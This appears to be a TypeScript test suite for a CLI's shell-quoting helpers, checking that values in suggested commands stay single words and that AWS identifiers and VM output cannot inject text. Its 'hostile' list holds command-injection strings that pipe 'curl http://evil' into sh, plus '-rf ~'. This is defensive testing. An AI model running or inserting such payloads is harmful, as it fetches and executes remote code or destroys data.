import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { globSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, test } from 'node:test';
import { command, ec2Id, idOr, shellWord } from '../../src/cli/shell-command.ts';
import { printable } from '../../src/cli/terminal.ts';
import { remoteFailure } from '../../src/keys/remote-failure.ts';
import { fc } from '../property.ts';

const hostile = [
  '/root/.ssh/x; curl http://evil | sh #',
  "'; curl http://evil | sh; '",
  '$(curl http://evil | sh)',
  '`curl http://evil | sh`',
  'a\ncurl http://evil | sh\n',
  '\u202e\u0007\u001b[2K curl http://evil | sh',
  '&& curl http://evil | sh',
  '-rf ~',
];

/**
 * Expressions that may stand in a command without quoting, because their form was checked where they came in:
 * names of VMs, jobs and profiles (`vmName`, `profileName`), fingerprints (`SHA256:` and base64), lease ids, and
 * texts that were quoted where they were made.
 */
const checked = new Set([
  'vm',
  'name',
  'vm.name',
  'key.name',
  'login.vm.name',
  'wanted',
  'given',
  "'profile' in which ? given : 'PROFILE'",
  'key.fingerprint',
  'pin.fingerprint',
  'own',
  'lower',
  // A path that the renderer of ssh_config quoted, and a constant.
  'include',
  'version',
  'results[0]?.vm.name',
  'line.fingerprint',
  'printable(pin.fingerprint)',
  'id',
  'user',
  // Of an AWS call's profile and region: quoted by src/aws/attempt.ts.
  'profile',
  'profileOption(attempt)',
  'profileOption(profile)',
  'profileOption(attempt.profile)',
  'option',
  'regionOption(attempt)',
  'instanceOption(attempt)',
  'permission(attempt)',
  // A DynamoDB table's name, held to its form by src/commands/debug-options.ts.
  'endOptions',
  // Another command, made in the same file.
  'way',
  'as',
  'at',
  // Prose behind a command, or a title, and no part of one.
  'sshToml',
  'lines(summaries)',
  'lines(globalPairs)',
  'log',
  'vm.forwardingRefused',
  'this.#refused.get(vm.name)',
  'until(freeAt)',
  'what',
  'signal',
  'packed',
  'unsealed',
  'stage.directory',
  'fields.vm',
  'inert(fields.vm)',
]);

describe('commands in errors, hints and notes', () => {
  test('a shell reads each value as one word', () => {
    fc.assert(
      fc.property(
        fc.array(fc.oneof(fc.string({ unit: 'binary' }), fc.constantFrom(...hostile)), { maxLength: 5 }),
        (values) => {
          const line = `printf '%s\\n' ${values.map((value) => command`${value}`).join(' ')} end`;
          const read = execFileSync('/bin/sh', ['-c', line], { encoding: 'utf8' }).split('\n');
          assert.deepEqual(read.slice(0, -1), [...values.map(printable), 'end']);
        },
      ),
      { numRuns: 100 },
    );
  });

  test('plain values are not quoted; no word can become an option', () => {
    assert.equal(command`chmod go-w ${'/home/u/.ssh'} ${'a b'}`, "chmod go-w /home/u/.ssh 'a b'");
    assert.equal(shellWord("it's"), "'it'\\''s'");
    assert.equal(shellWord(''), "''");
  });

  test('an identifier from AWS is put into a command only if it has the right form', () => {
    assert.equal(idOr('subnet-0123456789abcdef0', ec2Id, 'SUBNET'), 'subnet-0123456789abcdef0');
    for (const text of [...hostile, undefined, '', 'subnet-', 'subnet-0123;x']) {
      assert.equal(idOr(text, ec2Id, 'SUBNET'), 'SUBNET');
    }
  });

  test('no text of a VM reaches the hint of a failed change to authorized_keys', () => {
    for (const word of [
      'home',
      'directory',
      'link',
      'kind',
      'read',
      'owner',
      'write',
      'short',
      'date',
      'busy',
      'other',
    ]) {
      const { hint: plain } = remoteFailure('dev', `fail ${word} x`);
      for (const text of hostile.filter((each) => !each.includes('\n'))) {
        const { message, hint } = remoteFailure('dev', `fail ${word} ${text}`);
        assert.equal(hint, plain, 'the hint depends on what the VM said');
        assert.equal(message, printable(message));
      }
    }
  });

  test('every other value in a command of ours has a fixed form', () => {
    const words =
      'mint-ssh [a-z]|aws [a-z0-9]+ [a-z-]+|chmod |chown |rm |rmdir |ssh -|ssh-keygen|sudo |curl |mint [a-z]';
    const unchecked: string[] = [];
    const src = join(import.meta.dirname, '../../src');
    let seen = 0;
    // What ssh, cloud-init or a build log reads is quoted by rules of its own; see their tests.
    const files = globSync('**/*.ts', { cwd: src }).filter(
      (file) => !/^(?:demo|cli\/completion)\//.test(file),
    );
    for (const file of files) {
      for (const text of readFileSync(join(src, file), 'utf8').matchAll(/(\w*)`((?:[^`\\]|\\.)*)`/g)) {
        const [, tag = '', body = ''] = text;
        const start = new RegExp(`(?:^|[^\\w-])(?:${words})`).exec(body);
        if (start === null || /command$/i.test(tag)) continue;
        for (const [, expression = ''] of body.slice(start.index).matchAll(/\$\{([^}]*)\}/g)) {
          seen += 1;
          if (!checked.has(expression.trim()) && !/^shellWord\(|\.map\(shellWord\)/.test(expression))
            unchecked.push(`${file}: \${${expression}} in ${body.slice(start.index, start.index + 60)}`);
        }
      }
    }
    assert.ok(seen > 30, `only ${seen} values were found: the search is broken`);
    assert.deepEqual(unchecked, []);
  });
});
